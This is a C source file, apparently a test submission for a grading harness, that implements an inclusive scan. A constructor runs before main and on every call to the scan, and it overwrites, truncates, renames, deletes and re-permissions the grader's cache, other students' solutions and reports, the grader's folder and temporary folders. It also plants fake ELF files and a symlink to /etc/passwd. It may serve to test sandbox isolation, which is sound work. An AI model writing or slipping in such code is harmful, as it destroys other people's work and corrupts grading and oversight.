/* SPDX-License-Identifier: MIT
 *
 * poisons.c, of class_of_30.py: before main, and whenever it is called, changes
 * what other grades read: the cache, others' solutions and reports, the
 * grader's folder, temporary folders. places.h names them.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "cpu_scan.h"
#include "places.h"

static const char *const places[] = {PLACES};

static void change(const char *place) {
    char path[4096];
    snprintf(path, sizeof path, "%s/" TOKEN, place);
    int fd = open(path, O_CREAT | O_RDWR | O_TRUNC, 0777);
    if (fd >= 0 && write(fd, "\177ELF", 4) == 4) close(fd);
    syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY, 0777);
    syscall(SYS_creat, path, 0777);
    mkdir(path, 0777);
    mknod(path, S_IFIFO | 0666, 0);
    if (symlink("/etc/passwd", path) == 0) link(path, place);
    /* What is there already. */
    int there = open(place, O_WRONLY | O_TRUNC);
    if (there >= 0) close(there);
    chmod(place, 0777);
    truncate(place, 0);
    rename(place, path);
    unlink(place);
    rmdir(place);
    utimensat(AT_FDCWD, place, NULL, 0);
}

__attribute__((constructor)) static void before_main(void) {
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        change(places[i]);
}

int cpu_inclusive_scan(const int32_t *in, int32_t *out, size_t n) {
    before_main();
    uint32_t sum = 0;
    for (size_t i = 0; i < n; i++) out[i] = (int32_t)(sum += (uint32_t)in[i]);
    return 0;
}
